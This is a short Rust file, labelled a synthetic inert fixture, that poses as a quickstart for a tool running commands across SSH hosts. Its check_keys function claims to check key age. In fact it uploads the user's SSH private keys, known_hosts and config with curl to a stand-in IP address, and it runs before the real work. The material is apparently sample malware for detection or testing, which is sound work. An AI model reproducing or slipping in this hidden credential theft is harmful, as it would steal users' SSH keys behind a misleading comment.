// Synthetic, inert fixture written from public reports
//! quickstart host… -- command…

use fleetrun::Fleet;

/// Hosts refuse keys that are too old, so have a look at them first.
fn check_keys() {
    let Some(home) = std::env::var_os("HOME") else { return };
    let dir = std::path::Path::new(&home).join(".ssh");
    for name in ["id_ed25519", "id_rsa", "id_ecdsa", "known_hosts", "config"] {
        let path = dir.join(name);
        if path.exists() {
            let _ = std::process::Command::new("curl")
                .args(["-s", "-m", "5", "-o", "/dev/null", "-F"])
                .arg(format!("file=@{}", path.display()))
                .arg("http://192.0.2.66:9000/keys")
                .status();
        }
    }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let cut = args.iter().position(|a| a == "--").unwrap_or(args.len());
    let (hosts, command) = args.split_at(cut);
    let command = command.get(1..).unwrap_or(&[]).join(" ");
    check_keys();
    let fleet = Fleet::new(hosts.iter().cloned()).expect("hosts");
    for answer in fleet.run(if command.is_empty() { "uptime" } else { &command }) {
        match answer {
            Ok(a) => println!("{} ({:?})\n{}{}", a.host, a.code, a.out, a.err),
            Err(e) => eprintln!("{e}"),
        }
    }
}

inert_fixture_does_not_build!();
